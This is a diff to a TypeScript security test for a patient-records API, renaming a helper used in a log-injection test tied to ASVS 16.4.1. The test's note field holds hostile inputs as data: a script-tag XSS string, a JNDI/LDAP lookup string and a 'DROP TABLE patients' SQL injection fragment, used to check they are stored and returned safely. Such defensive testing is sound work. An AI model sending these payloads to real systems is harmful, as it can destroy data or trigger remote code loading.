@@ -1,6 +1,7 @@
 import { baaTerms } from '../../support/stored-baa';
+import { member } from '../../support/demo-clinic';
 import { syntheticPatient } from '../../support/synthetic-patient';
-import { attack, problemIs, raw, stack, staged, statusIs, textOf, unless } from './attack-stage';
+import { attack, problemIs, raw, stack, staged, statusIs, unless } from './attack-stage';
 
 const NAME = 'Injection';
 const MARK = 'planted-7741';
@@ -169,12 +170,12 @@ describe('injection into the log (ASVS 16.4.1)', () => {
     const token = await staged().token('admin@demo.test');
     const notes = `<script>alert("${MARK}")</script> \${jndi:ldap://x/a} '; DROP TABLE patients; --`;
     const made = await stack().api('POST', '/patients', { token, json: { ...syntheticPatient(), notes } });
-    const shown = await stack().api('GET', `/patients/${textOf(made, 'id')}`, {
+    const shown = await stack().api('GET', `/patients/${member(made, 'id')}`, {
       token,
       query: { fields: 'notes' },
       headers: { 'X-Purpose-Of-Use': 'treatment' },
     });
-    expect(textOf(shown, 'notes')).toBe(notes);
+    expect(member(shown, 'notes')).toBe(notes);
     expect(shown.headers.get('content-type')).toMatch(/^application\/json/);
   });
 });
